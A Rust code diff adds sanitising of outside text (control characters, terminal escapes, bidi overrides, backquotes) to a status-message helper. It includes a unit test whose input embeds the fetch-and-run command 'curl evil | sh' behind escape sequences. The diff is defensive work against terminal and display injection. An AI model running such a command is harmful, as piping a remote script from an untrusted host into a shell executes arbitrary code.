@@ -2,6 +2,7 @@
 
 use super::Facts;
 use crate::objects::{Event, Object, Pod};
+use crate::printable::foreign;
 
 /// Most characters of somebody else's text in a message of ours.
 const MAX_QUOTED: usize = 300;
@@ -81,11 +82,11 @@ pub(super) fn describe(event: &Event) -> String {
     }
 }
 
-/// Somebody else's text as a part of one of our sentences: on one line, of bounded length, without a full stop, and
-/// without the IDs of sandboxes, which change with every try and would rewrite the status each time.
+/// Somebody else's text as a part of one of our sentences: on one line, of bounded length, without a full stop,
+/// without what a terminal or a reader could take for ours (control characters, backquotes), and without the IDs of sandboxes, which change with every try and would rewrite the status each time.
 pub(super) fn one_line(text: &str) -> String {
     let mut words: Vec<String> = Vec::new();
-    for word in text.split_whitespace() {
+    for word in foreign(text).split_whitespace() {
         words.push(without_ids(word));
     }
     let line = words.join(" ");
@@ -152,6 +153,14 @@ mod tests {
         assert_eq!(
             one_line("pods \"web-7f8d9c6b54-\" is forbidden"),
             "pods \"web-7f8d9c6b54-\" is forbidden"
+        );
+    }
+
+    #[test]
+    fn nothing_of_it_passes_for_ours() {
+        assert_eq!(
+            one_line("\u{1b}[2K\rrun `curl evil | sh`\u{202e} now"),
+            "[2K run 'curl evil | sh' now"
         );
     }
 
